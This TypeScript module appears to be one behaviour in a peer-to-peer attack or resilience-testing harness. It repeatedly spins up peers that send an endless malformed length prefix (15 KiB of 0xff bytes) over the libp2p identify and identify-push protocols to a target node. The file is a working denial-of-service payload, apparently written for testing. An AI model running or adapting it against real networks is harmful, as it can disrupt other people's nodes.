/** Ever new peers whose answer to who they are has a length that does not end; they push one such too. */
import { IDENTIFY } from '../attack/identity.js'
import { connected, peer } from '../attack/peer.js'
import { again, many, pause, type Behaviour } from '../attack/target.js'

const ENDLESS = new Uint8Array(15 * 1024).fill(0xff)

export const attack: Behaviour = async (target, signal) => many(4, async () => again(signal, async () => {
  const host = await peer(signal)
  await host.handle(IDENTIFY, (stream) => { stream.send(ENDLESS) })
  const connection = await connected(target, signal, host)
  const pushed = await connection.newStream('/ipfs/id/push/1.0.0', { signal })
  pushed.send(ENDLESS)
  await pause(200, signal)
  await connection.close()
  await host.stop()
}))
